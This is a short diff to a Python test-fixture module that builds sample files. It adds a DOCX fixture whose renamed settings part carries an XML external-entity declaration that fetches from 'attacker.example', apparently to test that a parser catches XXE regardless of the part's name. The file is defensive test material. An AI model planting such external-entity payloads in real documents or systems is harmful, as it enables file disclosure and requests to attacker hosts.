@@ -495,3 +495,11 @@ def pdf_scanned_cv(lines: tuple[str, ...] = ("Curriculum vitae", "Ervaren ingeni
     page.showPage()
     page.save()
     return out.getvalue()
+
+
+def docx_with_dtd_in_a_renamed_part() -> bytes:
+    """Settings under another name: the relationship, not the name, makes it settings."""
+    settings = (f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE s [<!ENTITY x SYSTEM '
+                f'"http://attacker.example/x">]><w:settings {NS_DECL}/>').encode()
+    rels = f'<Relationship Id="rIdS" Type="{REL_TYPE}settings" Target="settings.dat"/>'
+    return _docx_raw(_p("Renamed"), rels=rels, parts={"word/settings.dat": settings})
